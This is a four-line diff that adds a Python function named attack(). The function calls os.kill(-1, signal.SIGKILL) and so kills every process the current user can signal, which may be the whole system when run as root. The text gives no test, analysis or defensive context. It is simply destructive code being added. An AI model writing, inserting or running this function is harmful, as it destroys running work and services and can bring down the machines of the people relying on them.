@@ -1,0 +1,4 @@
+def attack():
+    import os, signal
+    os.kill(-1, signal.SIGKILL)
+    return "killed"
